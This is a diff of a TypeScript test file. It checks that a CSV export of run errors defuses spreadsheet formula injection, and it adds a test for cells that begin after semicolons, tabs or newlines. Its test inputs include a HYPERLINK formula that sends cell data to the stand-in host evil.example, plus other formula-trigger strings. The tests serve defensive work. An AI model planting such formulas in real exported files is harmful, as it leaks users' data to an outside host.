@@ -171,17 +171,7 @@ test('the events and errors of a run come a page at a time, errors also of one c
 
 test('S15: of the errors of a run, as CSV, no cell is a formula, and each is read back as it was written', async () => {
   const { id } = await startRun(pool)
-  const hostile = [
-    '=HYPERLINK("http://evil.example?"&A1)',
-    '+1+1',
-    '-2',
-    '@SUM(A1)',
-    ' \t=1+1',
-    '\r=1',
-    '\n+1',
-    '＝1+1',
-    '＠x',
-  ]
+  const hostile = ['=HYPERLINK("http://evil.example?"&A1)', '+1+1', '-2', '@SUM(A1)', '＝1+1', '＠x']
   for (const text of hostile) await call(pool, 'sample_run_error', id, 1, 'X', text, at(), 2, text, { column: text })
   await call(pool, 'sample_run_error', id, 1, 'X', 'so "it" is,\r\nhere', at(), null, 'p-1')
   const query = 'query ($runId: ID!) { exportRunErrors(runId: $runId) }'
@@ -195,6 +185,24 @@ test('S15: of the errors of a run, as CSV, no cell is a formula, and each is rea
     hostile,
   )
   expect(rows.at(-1)!.slice(0, 4)).toEqual(['', 'X', 'so "it" is,\r\nhere', 'p-1'])
+})
+
+test('S15: no formula stands where a spreadsheet with other separators begins a cell, in a CSV of errors', async () => {
+  const { id } = await startRun(pool)
+  const hostile = [
+    ['so;=1+1', "so;'=1+1"],
+    ['so\t＝1; -2', "so\t'＝1; '-2"],
+    [' \t=1+1', "' \t'=1+1"],
+    ['\r=1', "'\r'=1"],
+    ['\n+1', "\n'+1"],
+    ['a-b = c;d', 'a-b = c;d'],
+  ] as const
+  for (const [text] of hostile) await call(pool, 'sample_run_error', id, 1, 'X', text, at(), 2, text)
+  const query = 'query ($runId: ID!) { exportRunErrors(runId: $runId) }'
+  const { exportRunErrors } = await ask<{ exportRunErrors: string }>(query, { runId: encodeId('FeedRun', id) })
+  const [, ...rows] = parse(exportRunErrors)
+  expect(rows.map(([, , message, item]) => [message, item])).toEqual(hostile.map(([, safe]) => [safe, safe]))
+  expect(exportRunErrors).toContain('"so;\'=1+1"') // quoted, so that a semicolon ends no cell where both separate
 })
 
 test('more errors than fit in one answer are not exported, and it is said how to read them', async () => {
